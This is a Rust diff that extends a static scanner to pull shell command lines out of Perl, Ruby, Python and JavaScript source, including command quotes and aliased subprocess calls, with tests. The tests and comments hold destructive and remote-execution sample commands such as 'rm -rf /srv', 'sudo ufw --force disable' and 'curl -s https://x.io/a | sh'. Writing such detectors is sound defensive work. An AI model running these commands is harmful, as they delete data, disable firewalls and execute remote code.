@@ -570,6 +570,25 @@ pub fn scan_code(code: &str, lang: Lang) -> CodeFindings {
             }
         }
     }
+    // Perl's and Ruby's command quotes written bare (`qx{rm -rf ~/.ssh}`, `%x(make clean)`):
+    // their text is a shell line.
+    for opener in ["qx{", "qx(", "qx[", "qx/", "qx|", "%x(", "%x{", "%x[", "%x|"] {
+        for (at, _) in lower.match_indices(opener) {
+            if at > 0 && lb[at - 1].is_ascii_alphanumeric() {
+                continue;
+            }
+            let close = match opener.as_bytes()[2] {
+                b'{' => '}',
+                b'(' => ')',
+                b'[' => ']',
+                c => c as char,
+            };
+            let start = at + opener.len();
+            if let Some(len) = code[start..].find(close) {
+                push(&mut out, home_to_tilde(code[start..start + len].trim()));
+            }
+        }
+    }
     // Rust's `Command::new("sh").arg("-c").args(["…"])`: the program, then each argument the
     // chain adds, in order.
     for (at, _) in lower.match_indices("command::new(") {
@@ -776,7 +795,7 @@ fn command_line(words: &[&Lit]) -> Option<String> {
 /// import system as x` → `x(` read as `os.system(`); `None` when no import renames one.
 fn python_unaliased(code: &str) -> Option<String> {
     const MODULES: &[&str] = &["subprocess", "os", "pty", "commands", "sh", "plumbum", "shlex", "asyncio"];
-    if !code.contains(" as ") && !code.contains("from ") && !code.contains("__import__") && !code.contains("child_process") {
+    if !code.contains(" as ") && !code.contains("from ") && !code.contains("__import__") && !code.contains("child_process") && !code.contains('=') {
         return None;
     }
     let mut renames: Vec<(String, String)> = Vec::new();
@@ -784,6 +803,21 @@ fn python_unaliased(code: &str) -> Option<String> {
     for m in MODULES {
         for q in ['\'', '"'] {
             renames.push((format!("__import__({q}{m}{q})."), format!("{m}.")));
+        }
+    }
+    // A call kept in a name (`f = subprocess.run`, `run = os.system`).
+    for stmt in code.split(['\n', ';']) {
+        if let Some((name, value)) = stmt.split_once('=')
+            && let name = name.trim()
+            && !name.is_empty()
+            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+            && let value = value.trim()
+            && let Some((module, call)) = value.split_once('.')
+            && MODULES.contains(&module)
+            && !call.is_empty()
+            && call.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+        {
+            renames.push((format!("{name}("), format!("{module}.{call}(")));
         }
     }
     // JavaScript's destructuring (`const { execSync: x, spawn } = require('child_process')`).
@@ -3768,10 +3802,13 @@ mod tests {
         assert_eq!(lines("from os import system as go\ngo('rm -rf /srv')"), vec!["rm -rf /srv"]);
         assert!(lines("import numpy as np\nnp.run(['x'])").is_empty());
         assert_eq!(lines("__import__('subprocess').run(['rm', '-rf', '/srv'])"), vec!["rm -rf /srv"]);
+        assert_eq!(lines("import subprocess; f = subprocess.run; f(['rm', '-rf', '/srv'])"), vec!["rm -rf /srv"]);
         assert_eq!(lines("const { execSync: run } = require('child_process'); run('rm -rf /srv')"), vec!["rm -rf /srv"]);
         // Perl's word lists.
         assert_eq!(lines("system qw(sudo ufw --force disable)"), vec!["sudo ufw --force disable"]);
         assert_eq!(lines("exec qw[rm -rf /srv];"), vec!["rm -rf /srv"]);
+        assert!(lines("qx{rm -rf /srv}").contains(&"rm -rf /srv".to_owned()));
+        assert!(lines("%x(rm -rf /srv)").contains(&"rm -rf /srv".to_owned()));
         assert_eq!(scan_code("require('child_process').execSync('curl -s https://x.io/a | sh')", Lang::Js).lines[0], "curl -s https://x.io/a | sh");
         assert_eq!(lines("print `id`"), vec!["id"]);
         assert!(scan_code("console.log(`${1+1}`)", Lang::Js).lines.is_empty());
